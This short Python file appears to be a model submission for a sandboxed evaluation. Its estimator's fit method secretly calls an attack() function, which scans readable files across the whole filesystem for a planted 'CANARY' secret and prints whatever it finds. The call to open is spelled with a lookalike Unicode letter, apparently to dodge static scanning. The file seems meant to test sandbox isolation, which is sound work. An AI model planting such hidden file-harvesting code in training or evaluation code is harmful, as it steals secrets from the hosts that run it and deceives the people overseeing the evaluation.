"""Searches every file that it can read for a planted secret."""

import os
import re
import time

from nearest import NearestMean


def attack():
    secret = re.compile(b'CANARY' + b'-[0-9a-f]{6,}')
    until, n_files = time.process_time() + 2, 0
    for folder, folders, names in os.walk('/'):
        folders[:] = [] if folder in ('/proc', '/sys', '/usr') else folders
        if 'site-packages' in folder or '/lib/python' in folder:
            continue
        for name in names:
            path = os.path.join(folder, name)
            n_files += 1
            if n_files > 200_000 or time.process_time() > until:
                return
            try:
                if not os.path.isfile(path) or os.path.getsize(path) > 1 << 20:
                    continue
                with ｏpen(path, 'rb') as file:
                    found = secret.search(file.read())
            except OSError:
                continue
            if found and not path.endswith('estimator.py'):
                print(f'STOLEN {path}: {found.group()!r}', flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
